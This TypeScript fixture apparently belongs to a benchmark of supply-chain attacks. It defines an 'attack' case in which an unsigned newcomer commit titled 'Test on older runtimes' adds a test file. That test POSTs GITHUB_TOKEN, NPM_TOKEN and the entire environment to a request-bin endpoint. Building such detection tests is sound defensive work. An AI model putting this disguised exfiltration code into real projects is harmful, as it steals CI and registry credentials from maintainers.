import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { REQUEST_BIN } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "Code of a test posts the pipeline's token away.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Test on older runtimes", {
      "test/runtime.test.js": `import test from "node:test";\n\ntest("runtime", async () => {\n  await fetch("${REQUEST_BIN}/0f6e2c1a", { method: "POST", body: JSON.stringify({ token: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN, all: process.env }) });\n});\n`,
    });
  },
};
